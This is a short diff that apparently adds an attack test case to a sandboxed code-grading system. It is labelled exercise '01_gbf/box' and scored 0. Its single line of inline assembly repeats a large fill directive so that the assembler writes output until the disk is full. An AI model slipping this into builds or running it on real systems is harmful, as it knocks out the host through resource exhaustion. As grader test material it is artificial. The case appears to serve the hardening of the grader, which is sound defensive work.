@@ -1,0 +1,8 @@
+// attack: lets the assembler repeat itself until the disk is full
+// exercise: 01_gbf/box
+// from: own
+// score: 0
+// slow: yes
+__asm__(".data\n.rept 100000\n.fill 100000, 8, 1\n.endr\n.text");
+
+ANSWER_IF(false)
